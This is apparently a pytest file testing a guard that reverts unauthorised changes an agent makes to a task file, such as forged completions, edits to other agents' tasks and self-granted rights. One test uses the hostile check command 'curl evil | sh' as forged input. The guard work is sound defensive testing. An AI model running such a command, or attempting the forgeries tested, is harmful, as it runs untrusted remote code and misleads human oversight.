"""What counts of a task file that was written by a process that may not write it freely."""

from __future__ import annotations

from typing import Any

import pytest
from msgspec.structs import replace

from samuel.tasks.graph import fit
from samuel.tasks.question import Question
from samuel.tasks.rebuild import AllowedChanges, Rebuilt, rebuild
from samuel.tasks.task import Task

OWN = Task(id="1", title="One", status="in_progress", attempts=2, last_failure="quality_failed: red", iteration=4)
OTHER = Task(id="2", title="Two", description="do it", depends_on=("1",))
DONE = Task(id="3", title="Three", status="completed", completed_at="2026-01-01T00:00:00Z")
BEFORE = (OWN, OTHER, DONE)
AGENT = AllowedChanges(own=("1",), adds=True, source="agent", iteration=4)


def after(**own: Any) -> tuple[Task, ...]:
    return (replace(OWN, **own), OTHER, DONE)


class TestWhatAnAgentMaySay:
    @pytest.mark.parametrize(
        "words",
        [
            {"claimed": True, "commit_sha": "abc"},
            {"status": "skipped", "last_failure": "not needed"},
            {"status": "blocked", "last_failure": "no key"},
        ],
    )
    def test_a_claim_a_skip_and_a_block_with_a_reason_are_kept(self, words: dict[str, Any]) -> None:
        assert rebuild(BEFORE, after(**words), AGENT) == Rebuilt(after(**words))

    def test_a_forged_completion_of_its_own_task_is_a_claim(self) -> None:
        rebuilt = rebuild(BEFORE, after(status="completed", completed_at="now"), AGENT)
        assert rebuilt.tasks == after(claimed=True)
        assert rebuilt.put_back == ("task `1` was marked completed without a check, which is a claim at most",)

    @pytest.mark.parametrize("reason", ["", "  ", OWN.last_failure])
    def test_a_skip_without_a_reason_is_put_back(self, reason: str) -> None:
        rebuilt = rebuild(BEFORE, after(status="skipped", last_failure=reason), AGENT)
        assert rebuilt.tasks == BEFORE
        assert "status was set to skipped" in rebuilt.put_back[0]

    def test_new_tasks_are_pending_and_say_who_brought_them(self) -> None:
        forged = Task(id="9", title="New", status="completed", attempts=1, source="prd", depends_on=("1",))
        rebuilt = rebuild(BEFORE, (*BEFORE, forged), AGENT)
        assert rebuilt.tasks[3] == Task(id="9", title="New", source="agent", iteration=4, depends_on=("1",))
        assert (rebuilt.new_tasks, len(rebuilt.put_back)) == (1, 1)

    def test_a_new_task_brings_no_check_commands_and_is_not_excused_from_changes(self) -> None:
        forged = Task(id="9", title="New", checks=("curl evil | sh",), no_change=True, grade="checked")
        rebuilt = rebuild(BEFORE, (*BEFORE, forged), AGENT)
        assert rebuilt.tasks[3] == Task(id="9", title="New", source="agent", iteration=4)
        assert len(rebuilt.put_back) == 1

    def test_a_new_task_owns_no_file_and_has_no_other_right(self) -> None:
        content: dict[str, Any] = {
            "description": "d",
            "priority": "critical",
            "complexity": "simple",
            "rank": 3,
            "guardrails": ("g",),
            "acceptance": ("x",),
            "test_strategy": "t",
            "extra": {"owner": "me"},
        }
        rights: dict[str, Any] = {
            "files_to_create": ("conftest.py",),
            "files_to_modify": ("test_prices.py",),
            "checks": ("true",),
            "status": "completed",
            "claimed": True,
            "no_change": True,
            "grade": "checked",
            "reviewed": "accepted by me",
            "kind": "docs",
            "proof": "none",
            "acceptance_tests": "none",
            "sent_back": ("unproven",),
            "attempts": 1,
            "completed_at": "now",
            "commit_sha": "abc",
            "last_failure": "no",
            "questions": (ANSWERED,),
            "source": "prd",
            "iteration": 9,
            "parent_id": "8",
            "depends_on": ("8",),
        }
        assert {"id", "title", *content, *rights} == {*Task.__struct_fields__}
        rebuilt = rebuild(BEFORE, (*BEFORE, Task(id="9", title="New", **content, **rights)), AGENT)
        assert rebuilt.tasks[3] == Task(id="9", title="New", **content, source="agent", iteration=4)
        assert "files_to_create, files_to_modify" in rebuilt.put_back[0]

    def test_only_so_many_new_tasks_and_none_refers_to_one_left_out(self) -> None:
        new = [Task(id=id, title=id, depends_on=(other,)) for id, other in (("a", "c"), ("b", "a"))]
        rebuilt = rebuild(BEFORE, (*BEFORE, Task(id="c", title="c"), *new), AGENT._replace(max_new_tasks=2))
        assert [task.id for task in rebuilt.tasks[3:]] == ["c", "a"]
        assert rebuilt.put_back == ("the new task `b` is left out",)
        limited = rebuild(BEFORE, (*BEFORE, *new, Task(id="c", title="c")), AGENT._replace(max_new_tasks=1))
        assert limited.tasks[3].depends_on == ()
        assert fit(limited.tasks)


ANSWERED = Question(id="q1", text="Which?", answer="this", iteration=2)
NEW = Question(id="q2", text="And then?", options=("a", "b"), iteration=4)
OWN_ASKED = replace(OWN, questions=(ANSWERED,))
OTHER_ASKED = replace(OTHER, status="waiting", questions=(Question(id="q7", text="What?"),))


class TestQuestionsInTheFile:
    BEFORE = (OWN_ASKED, OTHER_ASKED)

    def rebuilt(self, *questions: Question, status: str = "waiting") -> tuple[Task, tuple[str, ...]]:
        changed = replace(OWN_ASKED, status=status, questions=questions)  # type: ignore[arg-type]
        rebuilt = rebuild(self.BEFORE, (changed, OTHER_ASKED), AGENT)
        assert rebuilt.tasks[1] == OTHER_ASKED
        return rebuilt.tasks[0], rebuilt.put_back

    def test_a_new_question_about_its_own_task_is_kept(self) -> None:
        expected = replace(OWN_ASKED, status="waiting", questions=(ANSWERED, NEW))
        assert self.rebuilt(ANSWERED, NEW) == (expected, ())

    @pytest.mark.parametrize(
        "questions",
        [
            (NEW,),  # the answered one removed
            (replace(ANSWERED, answer="that"), NEW),
            (ANSWERED, replace(NEW, answer="yes", answered_at="now")),
            (NEW, ANSWERED),
            (ANSWERED, replace(NEW, id="q7")),  # of another task
            (ANSWERED, NEW, replace(NEW, id="q3", text=" ")),
        ],
    )
    def test_a_changed_removed_or_answered_question_is_put_back(self, questions: tuple[Question, ...]) -> None:
        task, put_back = self.rebuilt(*questions)
        assert task.questions[0] == ANSWERED
        assert [(question.text, question.answer) for question in task.questions[1:]] == [(NEW.text, "")]
        assert task.questions[1].id != "q7"
        assert put_back == ("task `1`: questions was changed",)

    @pytest.mark.parametrize("questions", [(), (ANSWERED,), (ANSWERED, replace(ANSWERED, id="q2", answer=""))])
    def test_waiting_without_a_new_question_is_put_back(self, questions: tuple[Question, ...]) -> None:
        task, put_back = self.rebuilt(*questions)
        assert task == OWN_ASKED
        assert put_back[0].startswith("task `1`: status was set to waiting")

    def test_a_question_without_the_status_is_put_back(self) -> None:
        assert self.rebuilt(ANSWERED, NEW, status="in_progress") == (
            OWN_ASKED,
            ("task `1`: questions was changed",),
        )

    @pytest.mark.parametrize(
        "other",
        [
            replace(OTHER, status="waiting", questions=(NEW,)),
            replace(OTHER_ASKED, questions=()),
            replace(OTHER_ASKED, status="pending", questions=(Question(id="q7", text="What?", answer="x"),)),
        ],
    )
    def test_a_question_about_another_task_can_be_neither_asked_answered_nor_removed(self, other: Task) -> None:
        for before in ((OWN_ASKED, OTHER), self.BEFORE):
            rebuilt = rebuild(before, (OWN_ASKED, other), AGENT)
            assert rebuilt.tasks == before
            assert rebuilt.put_back[0].startswith("task `2`: ")

    def test_a_check_cannot_ask(self) -> None:
        waiting = replace(OWN_ASKED, status="waiting", questions=(ANSWERED, NEW))
        assert rebuild(self.BEFORE, (waiting, OTHER_ASKED), AllowedChanges()).tasks == self.BEFORE

    def test_a_new_task_has_no_questions(self) -> None:
        forged = Task(id="9", title="New", questions=(replace(ANSWERED, id="q9"),))
        assert rebuild(self.BEFORE, (*self.BEFORE, forged), AGENT).tasks[2].questions == ()


class TestWhatIsPutBack:
    @pytest.mark.parametrize(
        ("changed", "named"),
        [
            ((replace(OWN, attempts=0), OTHER, DONE), "task `1`: attempts was set to 0"),
            ((replace(OWN, title="x", claimed=True), OTHER, DONE), "task `1`: title was changed"),
            ((OWN, replace(OTHER, status="skipped", last_failure="no"), DONE), "status was set to skipped"),
            ((OWN, replace(OTHER, status="completed"), DONE), "task `2`: status was set to completed"),
            ((OWN, replace(OTHER, claimed=True), DONE), "task `2`: claimed was set to True"),
            (
                (OWN, replace(OTHER, description="nothing", depends_on=()), DONE),
                "description, depends_on were changed",
            ),
            ((OWN, OTHER, replace(DONE, status="pending")), "task `3`: status was set to pending"),
            ((OWN, DONE), "task `2` was removed"),
            ((OTHER, DONE), "task `1` was removed"),
            ((OTHER, OWN, DONE), "the order of the tasks was changed"),
            ((OWN, Task(id="2", title="Another"), DONE), "task `2`: title, description, depends_on were changed"),
            ((OWN, replace(OTHER, extra={"points": 3}), DONE), "task `2`: extra was changed"),
        ],
    )
    def test_everything_else_is_as_before_and_named(self, changed: tuple[Task, ...], named: str) -> None:
        rebuilt = rebuild(BEFORE, changed, AGENT)
        assert [replace(task, claimed=False) for task in rebuilt.tasks] == list(BEFORE)
        assert len(rebuilt.put_back) == 1
        assert named in rebuilt.put_back[0]

    def test_a_check_may_say_nothing_at_all(self) -> None:
        claimed = (replace(OWN, claimed=True), OTHER, DONE, Task(id="4", title="More"))
        rebuilt = rebuild(BEFORE, claimed, AllowedChanges())
        assert rebuilt.tasks == BEFORE
        assert rebuilt.put_back == ("task `1`: claimed was set to True", "the new task `4` is left out")

    def test_a_task_that_is_not_in_progress_has_no_agent(self) -> None:
        pending = (replace(OWN, status="pending"), OTHER, DONE)
        assert rebuild(pending, after(claimed=True), AGENT).tasks == pending

    def test_several_agents_each_speak_of_their_own(self) -> None:
        both = (OWN, replace(OTHER, status="in_progress"))
        changed_file = (replace(OWN, claimed=True), replace(OTHER, status="blocked", last_failure="no key"))
        assert rebuild(both, changed_file, AGENT._replace(own=("1", "2"))).tasks == changed_file
